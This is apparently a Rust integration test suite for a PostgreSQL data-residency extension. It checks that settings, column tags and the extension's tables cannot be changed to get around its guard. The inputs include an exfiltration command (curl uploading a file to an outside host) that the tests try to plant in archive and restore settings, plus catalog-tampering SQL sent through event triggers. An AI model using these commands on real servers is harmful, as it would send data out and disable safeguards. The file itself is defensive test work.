//! The settings gate, by every way in which a setting can be set; what else nobody outside changes of what the guard goes by;
//! and gates that are off. One node, known by its unix socket.

use integration::{Cluster, Output, Result, Sql, Stop, wait_for_answer, wait_until};

/// What an outsider would want, and each of the settings that it could be given to.
const COMMAND: &str = "curl -T %p https://eu.example/";
const NAMES: [&str; 11] = [
    "archive_command",
    "archive_library",
    "archive_cleanup_command",
    "recovery_end_command",
    "restore_command",
    "ssl_passphrase_command",
    "primary_conninfo",
    "log_destination",
    "log_directory",
    "log_filename",
    "shared_preload_libraries",
];

/// What blinds the guard, with a value that would.
const BLINDS: [(&str, &str); 10] = [
    ("ssl_ca_file", "other.crt"),
    ("ssl_crl_file", "other.crl"),
    ("ssl_crl_dir", "other"),
    ("custodian.enforce", "off"),
    ("custodian.enforce_login", "off"),
    ("custodian.enforce_replication", "off"),
    ("custodian.enforce_ddl", "off"),
    ("custodian.enforce_access", "off"),
    ("custodian.enforce_settings", "off"),
    ("custodian.region_rules_file", "other.conf"),
];

/// Settings of modules that ship, with a value that the rules do not have.
const OF_MODULES: [(&str, &str); 2] = [
    ("basic_archive.archive_directory", "/mnt/elsewhere"),
    ("basebackup_to_shell.command", COMMAND),
];

fn value_of(name: &str) -> &'static str {
    match name {
        "primary_conninfo" => "host=198.51.100.7",
        "log_destination" => "syslog",
        "log_directory" => "/mnt/elsewhere",
        "log_filename" => "../../elsewhere/%a.log",
        "shared_preload_libraries" => "",
        _ => COMMAND,
    }
}

fn values(node: &Cluster) -> Result<String> {
    node.text(
        "SELECT string_agg(name || '=' || setting, E'\\n' ORDER BY name) FROM pg_settings
         WHERE name ~ '^(archive_|restore_command|recovery_end|ssl_passphrase|primary_conninfo|log_d|log_filename|shared_preload|custodian.enforce|custodian.region)'",
    )
}

#[test]
fn no_way_to_set_a_setting_leads_past_the_gate() -> Result<()> {
    let node = Cluster::builder("ways")
        .preload("pg_custodian")
        .conf("custodian.region = 'cn'")
        .conf("custodian.enforce = 'on'")
        .conf("archive_mode = on")
        .start()?;
    let parts = node.data_dir().join("conf.d");
    std::fs::create_dir(&parts)?;
    integration::host::give(&parts)?;
    node.append_conf("include_dir = 'conf.d'\ninclude_if_exists = 'more.conf'")?;
    node.write_file(
        "custodian_regions.conf",
        "region cn\nregion eu\nnetwork 198.51.100.0/24 eu shop\nlocal postgres\n",
    )?;
    node.reload()?;
    node.exec("CREATE ROLE app LOGIN")?;
    let before = values(&node)?;
    let guarded = NAMES.map(|name| (name, value_of(name)));

    // The server itself lets no session, role, database or function have these for itself.
    let mut client = node.client()?;
    for (name, value) in guarded.into_iter().chain(BLINDS) {
        for statement in [
            format!("SET {name} = '{value}'"),
            format!("SET LOCAL {name} = '{value}'"),
            format!("SELECT set_config('{name}', '{value}', false)"),
            format!("UPDATE pg_settings SET setting = '{value}' WHERE name = '{name}'"),
            format!("ALTER ROLE app SET {name} = '{value}'"),
            format!("ALTER ROLE ALL SET {name} = '{value}'"),
            format!("ALTER DATABASE postgres SET {name} = '{value}'"),
            format!("ALTER ROLE app IN DATABASE postgres SET {name} = '{value}'"),
            format!(
                "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET {name} = '{value}' AS 'SELECT 1'"
            ),
        ] {
            let error = client.refused(&statement);
            assert_eq!(error.sqlstate(), "55P02", "{statement}: {error}");
        }
        let output = node
            .program("psql")?
            .env(
                "PGOPTIONS",
                format!("-c {name}={}", value.replace(' ', "\\ ")),
            )
            .args(["-X", "-c", "SELECT 1"])
            .run()?;
        assert!(
            !output.success() && output.stderr.contains("cannot be changed"),
            "{name}: {output}"
        );
    }

    // What blinds the guard is not changed by ALTER SYSTEM from outside, not even by a superuser. Other settings are.
    node.exec("CREATE ROLE outsider LOGIN SUPERUSER")?;
    let mut outsider = node.client_as("outsider", "postgres")?;
    let mut statements: Vec<String> = BLINDS
        .into_iter()
        .chain([
            ("custodian.region", "eu"),
            ("custodian.steward_role", "app"),
        ])
        .flat_map(|(name, value)| {
            [
                format!("ALTER SYSTEM SET {name} = '{value}'"),
                format!("ALTER SYSTEM RESET {name}"),
            ]
        })
        .collect();
    statements.push("ALTER SYSTEM RESET ALL".to_owned());
    for statement in statements {
        let error = outsider.refused(&statement);
        assert_eq!(error.sqlstate(), "42501", "{statement}: {error}");
        let text = error.to_string();
        assert!(text.contains("settings of the region guard"), "{text}");
        // Who is locked out so may be the DBA.
        assert!(
            text.contains("edit the configuration file on the server"),
            "{text}"
        );
    }
    outsider.batch_execute("ALTER SYSTEM SET custodian.naptime = '1min'")?;
    // Where the server's own modules ship to is no setting before they are loaded.
    for (name, value) in OF_MODULES {
        let error = client.refused(&format!("ALTER SYSTEM SET {name} = '{value}'"));
        assert_eq!(error.sqlstate(), "42501", "{name}: {error}");
        assert!(
            error
                .to_string()
                .contains("not allowed by the region rules"),
            "{error}"
        );
    }
    client.batch_execute("ALTER SYSTEM SET custodian.enforce_access = 'on'")?;
    client.batch_execute("ALTER SYSTEM RESET ALL")?;

    // Files that the configuration includes, and the one that ALTER SYSTEM writes, by hand.
    // The server leaves the list of libraries there until its next start, whatever it is.
    let lines: String = guarded
        .iter()
        .filter(|(name, _)| *name != "shared_preload_libraries")
        .map(|(name, value)| format!("{name} = '{value}'\n"))
        .collect();
    for file in ["conf.d/50-more.conf", "more.conf", "postgresql.auto.conf"] {
        node.write_file(file, &format!("{lines}work_mem = '7MB'\n"))?;
        node.reload()?;
        // Each is refused by itself: what else is in the file comes into force.
        wait_until(&format!("{file} was read"), 60, || {
            node.text("SHOW work_mem").is_ok_and(|value| value == "7MB")
        });
        assert_eq!(values(&node)?, before, "{file}");
        node.write_file(file, "")?;
        node.reload()?;
        wait_until(&format!("{file} is empty"), 60, || {
            node.text("SHOW work_mem").is_ok_and(|value| value == "4MB")
        });
    }

    // The command line of the server comes before the library: what it says ships nothing, or is a finding.
    node.stop(Stop::Fast)?;
    node.start_under(&[
        "sh".to_owned(),
        "-c".to_owned(),
        format!(
            "exec \"$@\" -c 'archive_command={COMMAND}' -c 'archive_library={COMMAND}' -c 'archive_cleanup_command={COMMAND}' -c 'recovery_end_command={COMMAND}' \
             -c 'restore_command={COMMAND}' -c 'ssl_passphrase_command={COMMAND}' -c 'primary_conninfo=host=198.51.100.7' -c log_directory=/mnt/elsewhere \
             -c log_destination=syslog -c log_filename=../../elsewhere/%a.log"
        ),
        "sh".to_owned(),
    ])?;
    for name in [
        "archive_command",
        "archive_library",
        "archive_cleanup_command",
        "recovery_end_command",
    ] {
        assert_eq!(node.text(&format!("SHOW {name}"))?, "", "{name}");
    }
    node.exec("CREATE EXTENSION pg_custodian")?;
    assert_eq!(
        node.text(
            "SELECT string_agg(object, ',' ORDER BY object) FROM custodian.check() WHERE code = 'setting-not-allowed'"
        )?,
        "log_destination,log_directory,log_filename,primary_conninfo,restore_command,ssl_passphrase_command"
    );
    let lines: String = OF_MODULES
        .iter()
        .map(|(name, value)| format!("{name} = '{value}'\n"))
        .collect();
    node.write_file("more.conf", &lines)?;
    node.reload()?;
    wait_for_answer(
        &node,
        "SELECT string_agg(object, ',' ORDER BY object) FROM custodian.check() WHERE code = 'setting-not-allowed' AND object LIKE 'bas%'",
        "basebackup_to_shell.command,basic_archive.archive_directory",
    );
    Ok(())
}

const RULES: &str = "region cn\nregion eu\nlocal postgres\n";

/// A node with a tagged table, and a superuser who is not known to be inside.
fn tagged(name: &str) -> Result<Cluster> {
    let node = Cluster::builder(name)
        .preload("pg_custodian")
        .conf("custodian.region = 'cn'")
        .conf("custodian.disposal = 'off'")
        .file("custodian_regions.conf", RULES)
        .start()?;
    node.exec(
        "CREATE ROLE away LOGIN SUPERUSER; CREATE EXTENSION pg_custodian;
         CREATE TABLE customer (id int PRIMARY KEY, email text, country text NOT NULL DEFAULT 'eu', note text);
         INSERT INTO customer VALUES (1, 'canary-4711', 'eu', 'canary-4711');
         SELECT custodian.define_purpose('shop.orders', 'contract', '1 year');
         SELECT custodian.define_purpose('shop.letters', 'contract', '1 year');
         SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders}', residency => '{cn}');
         SELECT custodian.clear_column('customer', c) FROM unnest('{id,country}'::text[]) c;
         CREATE PUBLICATION inside FOR TABLE customer",
    )?;
    node.alter_system("custodian.enforce", "on")?;
    Ok(node)
}

/// Fails unless a client was told once, in one error with what to do.
#[track_caller]
fn assert_refused_once(output: &Output, part: &str) {
    let said = output.all();
    assert!(!output.success() && said.contains(part), "{part}: {said}");
    for (word, times) in [("ERROR:", 1), ("DETAIL:", 1), ("HINT:", 1), ("WARNING:", 0)] {
        assert_eq!(said.matches(word).count(), times, "{word} {said}");
    }
    assert!(!said.contains("canary"), "{said}");
}

#[test]
fn nobody_outside_opens_a_column_by_its_tag_or_past_it_not_even_a_superuser() -> Result<()> {
    let node = tagged("opening")?;
    node.exec("CREATE ROLE dev LOGIN; GRANT CREATE ON DATABASE postgres TO dev")?;
    node.exec("CREATE DATABASE other")?;
    node.exec(r#"SECURITY LABEL FOR custodian ON DATABASE other IS '{"tls":true}'"#)?;
    let away = |sql: &str| node.psql_as("away", "postgres", sql);
    let labels = "SELECT count(*) || ' ' || md5(string_agg(objoid || ' ' || objsubid || ' ' || label, ',' ORDER BY objoid, objsubid)) FROM pg_seclabel";
    let before = node.text(labels)?;
    let tag = r#"{"category":"user.contact.email","sensitivity":"personal","purposes":["shop.orders"],"residency":["cn","eu"]}"#;
    let by_labels = format!("SECURITY LABEL FOR custodian ON COLUMN customer.email IS '{tag}'");
    let first = by_labels.replace("email IS", "note IS");
    let loosening = "loosening the tag of";
    for (sql, part) in [
        (
            "SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders}', residency => '{cn,eu}')",
            loosening,
        ),
        (
            "SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders,shop.letters}', residency => '{cn}')",
            loosening,
        ),
        (
            "SELECT custodian.clear_column('customer', 'email')",
            loosening,
        ),
        (
            "SELECT custodian.clear_column('customer', 'note')",
            loosening,
        ),
        (
            "SELECT custodian.untag_column('customer', 'email')",
            loosening,
        ),
        (
            "SELECT custodian.tag_table('customer', residency_column => 'country')",
            loosening,
        ),
        (&by_labels, loosening),
        (
            "SECURITY LABEL FOR custodian ON COLUMN customer.email IS NULL",
            loosening,
        ),
        // Who somebody became counts for nothing: the session is where it was.
        (
            "SET SESSION AUTHORIZATION postgres; SELECT custodian.clear_column('customer', 'email')",
            loosening,
        ),
        (&first, "saying from"),
        // Past the functions.
        (
            "UPDATE pg_seclabel SET label = '{\"not_personal\":true}' WHERE provider = 'custodian'",
            "writing to \"pg_catalog.pg_seclabel\"",
        ),
        (
            "DELETE FROM pg_seclabel",
            "writing to \"pg_catalog.pg_seclabel\"",
        ),
        (
            "INSERT INTO pg_shseclabel SELECT 0, 0, 'custodian', ''",
            "writing to \"pg_catalog.pg_shseclabel\"",
        ),
        (
            "SELECT custodian.open_lane('shop.eu', 'away', 's', '{inside}', network => '192.0.2.1')",
            "opening a lane from",
        ),
        (
            "SELECT custodian.open_archive_lane('shop.eu', 'true')",
            "opening an archive lane from",
        ),
        (
            "UPDATE custodian.purpose SET required = false",
            "writing to \"custodian.purpose\"",
        ),
        // Nobody may read these tables there, and an INSERT reads nothing.
        (
            "INSERT INTO custodian.lane (transfer, role, slot, plugin, publications) VALUES ('shop.eu', 'away', 's', 'pgoutput', '{inside}')",
            "writing to \"custodian.lane\"",
        ),
        (
            "COPY custodian.transfer FROM stdin",
            "writing to \"custodian.transfer\"",
        ),
        (
            "COPY custodian.archive_lane FROM stdin",
            "writing to \"custodian.archive_lane\"",
        ),
        // Nor do they become others' for a moment, or another shape.
        (
            "ALTER TABLE custodian.lane SET SCHEMA public",
            "to move table \"custodian.lane\", by which the guard goes, from",
        ),
        (
            "ALTER TABLE custodian.archive_lane RENAME TO lanes",
            "to rename table \"custodian.archive_lane\"",
        ),
        (
            "ALTER INDEX custodian.transfer RENAME TO lanes",
            "to rename table \"custodian.transfer\"",
        ),
        (
            "ALTER INDEX custodian.publication_permit RENAME TO lanes",
            "to rename table \"custodian.publication_permit\"",
        ),
        (
            "ALTER TABLE custodian.transfer RENAME COLUMN approved_by TO registrar",
            "to rename a column of table \"custodian.transfer\"",
        ),
        (
            "ALTER VIEW custodian.lane RENAME COLUMN role TO who",
            "to rename a column of table \"custodian.lane\"",
        ),
        (
            "ALTER TYPE custodian.lane RENAME ATTRIBUTE role TO who",
            "to rename a column of table \"custodian.lane\"",
        ),
        (
            "ALTER TABLE custodian.transfer ALTER COLUMN approved_at SET DEFAULT now()",
            "to alter table \"custodian.transfer\"",
        ),
        (
            "ALTER TABLE custodian.purpose ALTER COLUMN required DROP NOT NULL",
            "to alter table \"custodian.purpose\"",
        ),
        (
            "ALTER TABLE custodian.transfer RENAME CONSTRAINT transfer_pkey TO key",
            "to rename a constraint of table \"custodian.transfer\"",
        ),
        (
            "CREATE RULE more AS ON INSERT TO custodian.transfer DO INSTEAD NOTHING",
            "to make a rule on table \"custodian.transfer\"",
        ),
        (
            "CREATE TRIGGER more BEFORE UPDATE ON custodian.transfer FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()",
            "to make a trigger on table \"custodian.transfer\"",
        ),
        (
            "CREATE TABLE more () INHERITS (custodian.publication_permit)",
            "to inherit from table \"custodian.publication_permit\"",
        ),
        (
            "CREATE TABLE more () INHERITS (custodian.subscriber_disposal)",
            "to inherit from table \"custodian.subscriber_disposal\"",
        ),
        (
            "CREATE TABLE more (LIKE custodian.purpose INCLUDING ALL); ALTER TABLE more INHERIT custodian.purpose",
            "to inherit from table \"custodian.purpose\"",
        ),
        (
            "CREATE INDEX more ON custodian.lane (role)",
            "to make an index on table \"custodian.lane\"",
        ),
        // Of any table of it: it would run for whom writes there inside, the worker for one.
        (
            "BEGIN; CREATE FUNCTION past() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN COPY customer TO PROGRAM 'cat'; RETURN NULL; END $$;
             CREATE TRIGGER more AFTER INSERT ON custodian.ledger_entry FOR EACH ROW EXECUTE FUNCTION past()",
            "to make a trigger on table \"custodian.ledger_entry\"",
        ),
        (
            "CREATE RULE more AS ON INSERT TO custodian.epoch DO ALSO NOTIFY news",
            "to make a rule on table \"custodian.epoch\"",
        ),
        (
            "REASSIGN OWNED BY postgres TO away",
            "to give away what the owner of extension \"pg_custodian\" owns, by which the guard goes, from",
        ),
        (
            "ALTER EXTENSION pg_custodian DROP SCHEMA custodian",
            "to take anything out of extension \"pg_custodian\"",
        ),
        // What runs in the script of an extension writes there what scripts do, and no more; where it could be somebody else's not that.
        (
            "BEGIN; CREATE FUNCTION past() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM pg_depend WHERE deptype = 'e'; END $$;
             CREATE EVENT TRIGGER past ON ddl_command_end EXECUTE FUNCTION past(); CREATE EXTENSION hstore",
            "writing to \"pg_catalog.pg_depend\"",
        ),
        (
            "BEGIN; CREATE FUNCTION past() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN DELETE FROM pg_seclabel; END $$;
             CREATE EVENT TRIGGER past ON ddl_command_end EXECUTE FUNCTION past(); CREATE EXTENSION hstore",
            "writing to \"pg_catalog.pg_seclabel\"",
        ),
        (
            "BEGIN; CREATE FUNCTION past() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO custodian.lane DEFAULT VALUES; END $$;
             CREATE EVENT TRIGGER past ON ddl_command_end EXECUTE FUNCTION past(); CREATE EXTENSION hstore",
            "writing to \"custodian.lane\"",
        ),
        // Neither does what is no event trigger any more when it writes.
        (
            "BEGIN; CREATE FUNCTION past() RETURNS event_trigger LANGUAGE plpgsql AS
                 $$ BEGIN ALTER EVENT TRIGGER past DISABLE; DELETE FROM pg_depend WHERE deptype = 'e'; END $$;
             CREATE EVENT TRIGGER past ON ddl_command_end EXECUTE FUNCTION past(); CREATE EXTENSION hstore",
            "writing to \"pg_catalog.pg_depend\"",
        ),
        (
            "BEGIN; CREATE FUNCTION past() RETURNS event_trigger LANGUAGE plpgsql AS
                 $$ BEGIN IF tg_tag = 'CREATE FUNCTION' THEN DROP EVENT TRIGGER past; UPDATE pg_proc SET proowner = proowner; END IF; END $$;
             CREATE EVENT TRIGGER past ON ddl_command_start EXECUTE FUNCTION past(); CREATE EXTENSION hstore",
            "writing to \"pg_catalog.pg_proc\"",
        ),
        (
            "BEGIN; CREATE FUNCTION past() RETURNS event_trigger LANGUAGE plpgsql AS
                 $$ BEGIN IF tg_tag = 'CREATE FUNCTION' THEN DROP EVENT TRIGGER past; DELETE FROM custodian.lawful_basis; END IF; END $$;
             CREATE EVENT TRIGGER past ON ddl_command_end EXECUTE FUNCTION past();
             CREATE EXTENSION earthdistance CASCADE",
            "writing to \"custodian.lawful_basis\"",
        ),
        // Nor what an event trigger does to the tables and rows while it counts as a part of the script.
        (
            "BEGIN; CREATE FUNCTION past() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN ALTER TABLE custodian.lane RENAME TO gone; END $$;
             CREATE EVENT TRIGGER past ON ddl_command_end EXECUTE FUNCTION past(); CREATE EXTENSION hstore",
            "to rename table \"custodian.lane\"",
        ),
        (
            "BEGIN; CREATE FUNCTION past() RETURNS event_trigger LANGUAGE plpgsql AS
                 $$ BEGIN IF tg_tag = 'CREATE FUNCTION' THEN DROP EVENT TRIGGER past; ALTER TABLE customer ADD CHECK (email <> ''); END IF; END $$;
             CREATE EVENT TRIGGER past ON ddl_command_end EXECUTE FUNCTION past(); CREATE EXTENSION hstore",
            "customer",
        ),
        // Of any table of the extension, and of its schema: what its functions read and write runs with their rights.
        (
            "ALTER TABLE custodian.epoch ADD CHECK (true) NOT VALID",
            "to alter table \"custodian.epoch\"",
        ),
        (
            "ALTER TABLE custodian.ledger_entry ALTER COLUMN actor SET DEFAULT 'nobody'",
            "to alter table \"custodian.ledger_entry\"",
        ),
        (
            "ALTER TABLE custodian.minimum SET SCHEMA public",
            "to move table \"custodian.minimum\"",
        ),
        (
            "ALTER TABLE custodian.consent RENAME TO more",
            "to rename table \"custodian.consent\"",
        ),
        (
            "BEGIN; CREATE TABLE mine (); ALTER TABLE mine SET SCHEMA custodian",
            "to make anything in the schema of extension \"pg_custodian\"",
        ),
        (
            "SET search_path = custodian; CREATE TABLE mine ()",
            "to make anything in the schema of extension \"pg_custodian\"",
        ),
        (
            "CREATE OR REPLACE VIEW custodian.overdue AS SELECT 1",
            "to make anything in the schema of extension \"pg_custodian\"",
        ),
        (
            "CREATE FUNCTION custodian.more() RETURNS int LANGUAGE sql AS 'SELECT 1'",
            "to make anything in the schema of extension \"pg_custodian\"",
        ),
        (
            "ALTER FUNCTION custodian.require_steward RENAME TO more",
            "to rename a function of extension \"pg_custodian\"",
        ),
        (
            "CREATE TABLE mine (r oid REFERENCES custodian.pause ON DELETE CASCADE)",
            "to refer to table \"custodian.pause\"",
        ),
        (
            "BEGIN; CREATE TABLE mine (r oid); ALTER TABLE mine ADD FOREIGN KEY (r) REFERENCES custodian.pause",
            "to refer to table \"custodian.pause\"",
        ),
        (
            "BEGIN; CREATE TABLE mine (); ALTER TABLE mine ADD COLUMN r oid REFERENCES custodian.pause",
            "to refer to table \"custodian.pause\"",
        ),
        (
            "BEGIN; CREATE TABLE mine (LIKE custodian.consent INCLUDING ALL); ALTER TABLE mine INHERIT custodian.consent",
            "to inherit from table \"custodian.consent\"",
        ),
        (
            "CREATE STATISTICS more ON epoch, actor FROM custodian.epoch",
            "to make statistics of table \"custodian.epoch\"",
        ),
        (
            "CREATE POLICY more ON custodian.epoch USING (true)",
            "to make a policy on table \"custodian.epoch\"",
        ),
        (
            "TRUNCATE custodian.publication_permit",
            "truncating \"custodian.publication_permit\"",
        ),
        (
            "TRUNCATE customer, custodian.purpose CASCADE",
            "truncating \"custodian.purpose\"",
        ),
        (
            "SECURITY LABEL FOR custodian ON DATABASE other IS NULL",
            "removing the label of database \"other\"",
        ),
    ] {
        assert_refused_once(&away(sql)?, part);
        assert_eq!(node.text(labels)?, before, "{sql}");
        assert!(!away("SELECT email FROM customer")?.all().contains("canary"));
    }
    // What closes, or says when data goes, can be done from anywhere: the functions write for whom they let.
    for sql in [
        "SELECT custodian.tag_column('customer', 'note', 'user.content', '{shop.orders}')",
        "SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders}', residency => '{cn}', on_expiry => 'set_null')",
        "SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders}', residency => '{cn}')",
        "SELECT custodian.tag_table('customer', subject_kind => 'customer', subject_key => '{id}')",
    ] {
        away(sql)?.ok()?;
    }
    assert!(!away("SELECT note FROM customer")?.all().contains("canary"));
    // A label that nobody can read closes what it is on.
    let written =
        "SELECT label FROM pg_seclabel WHERE objoid = 'customer'::regclass AND objsubid = 2";
    let good = node.text(written)?;
    let write = |text: &str| {
        format!(
            "UPDATE pg_seclabel SET label = $text${text}$text$ WHERE objoid = 'customer'::regclass AND objsubid = 2"
        )
    };
    node.exec(&write("nothing"))?;
    for sql in [
        "SECURITY LABEL FOR custodian ON COLUMN customer.email IS NULL",
        "SELECT custodian.untag_column('customer', 'email')",
        "SELECT custodian.tag_column('customer', 'email', 'user.contact.email', '{shop.orders}')",
    ] {
        assert_refused_once(&away(sql)?, loosening);
        assert_eq!(node.text(written)?, "nothing", "{sql}");
    }
    node.exec(&write(&good))?;
    // Neither SET by another name nor the scripts of extensions are what the guard goes by.
    away("UPDATE pg_settings SET setting = '5MB' WHERE name = 'work_mem'")?.ok()?;
    for extension in ["seg", "citext", "hstore"] {
        away(&format!("CREATE EXTENSION {extension}"))?.ok()?;
    }
    node.psql_as("dev", "postgres", "CREATE EXTENSION cube")?
        .ok()?;
    // An event trigger that another session makes fires also in a transaction that has its snapshot since before.
    let mut early = node.client_as("away", "postgres")?;
    early.batch_execute("BEGIN ISOLATION LEVEL REPEATABLE READ; SELECT 1")?;
    node.exec(
        "CREATE FUNCTION late() RETURNS event_trigger LANGUAGE plpgsql AS
             $$ BEGIN ALTER EVENT TRIGGER late DISABLE; DELETE FROM pg_depend WHERE deptype = 'e'; END $$;
         CREATE EVENT TRIGGER late ON ddl_command_end WHEN TAG IN ('CREATE FUNCTION') EXECUTE FUNCTION late()",
    )?;
    let refused = early.refused("CREATE EXTENSION ltree");
    assert_eq!(refused.sqlstate(), "42501", "{refused}");
    assert!(refused.to_string().contains("pg_depend"), "{refused}");
    node.exec("DROP EVENT TRIGGER late")?;
    // None is made while the script runs.
    let mut maker = node.client_as("away", "postgres")?;
    early.batch_execute("ROLLBACK; BEGIN; CREATE EXTENSION ltree")?;
    maker.batch_execute("SET lock_timeout = '100ms'")?;
    let waited =
        maker.refused("CREATE EVENT TRIGGER late ON ddl_command_end EXECUTE FUNCTION late()");
    assert_eq!(waited.sqlstate(), "55P03", "{waited}");
    early.batch_execute("ROLLBACK")?;
    // From inside all of it is a steward's. In warn it passes, and is on record.
    node.exec(&by_labels)?;
    node.alter_system("custodian.enforce", "warn")?;
    away("SELECT custodian.untag_column('customer', 'email')")?.ok()?;
    assert_eq!(
        node.text(
            "SELECT outcome, role FROM custodian.guard_events
             WHERE gate = 'access' AND object = 'public.customer.email' AND outcome = 'warned' AND reason LIKE 'It could let%'"
        )?,
        "warned|away"
    );
    // Without the extension, of which the gate has only the labels, it is no other.
    node.alter_system("custodian.enforce", "on")?;
    away("DROP EXTENSION pg_custodian")?.ok()?;
    assert_refused_once(&away("SELECT email FROM customer")?, "reading");
    assert_refused_once(&away(&by_labels)?, "saying from");
    // Its own script may bring what laws know.
    away("CREATE EXTENSION pg_custodian")?.ok()?;
    node.exec("SECURITY LABEL FOR custodian ON DATABASE other IS NULL")
}

#[test]
fn a_gate_that_is_off_lets_pass_what_it_refused_and_records_nothing() -> Result<()> {
    let node = tagged("off")?;
    let sql = |role: &'static str, sql: &'static str| {
        move |node: &Cluster| node.psql_as(role, "postgres", sql)
    };
    let walsender = |command: &'static str| {
        move |node: &Cluster| {
            node.program("psql")?
                .role("away")
                .args([
                    "-X",
                    "-d",
                    "dbname=postgres replication=database",
                    "-c",
                    command,
                ])
                .run()
        }
    };
    type Attempt<'a> = Box<dyn Fn(&Cluster) -> Result<Output> + 'a>;
    let attempts: [(&str, Attempt); 5] = [
        (
            "access",
            Box::new(sql("away", "SELECT email FROM customer")),
        ),
        (
            "ddl",
            Box::new(sql("postgres", "CREATE PUBLICATION every FOR ALL TABLES")),
        ),
        (
            "settings",
            Box::new(sql(
                "postgres",
                "ALTER SYSTEM SET restore_command = 'cp /eu/%f %p'",
            )),
        ),
        ("login", Box::new(walsender("IDENTIFY_SYSTEM"))),
        // With the gate on logins off, since that comes first.
        (
            "replication",
            Box::new(walsender(
                "CREATE_REPLICATION_SLOT away TEMPORARY LOGICAL pgoutput",
            )),
        ),
    ];
    let recorded = "SELECT coalesce(sum(count), 0) FROM custodian.guard_events";
    for (gate, attempt) in &attempts {
        let output = attempt(&node)?;
        assert!(!output.success(), "{gate}: {output}");
        let one = output.all().matches("ERROR:").count() + output.all().matches("FATAL:").count();
        assert_eq!(one, 1, "{gate}: {output}");
        let before = node.text(recorded)?;
        assert_eq!(
            node.text(&format!(
                "SELECT count(*) > 0 FROM custodian.guard_events WHERE gate = '{gate}' AND outcome = 'refused'"
            ))?,
            "t",
            "{gate}"
        );
        node.alter_system(&format!("custodian.enforce_{gate}"), "off")?;
        attempt(&node)?.ok()?;
        assert_eq!(node.text(recorded)?, before, "{gate}");
    }
    Ok(())
}
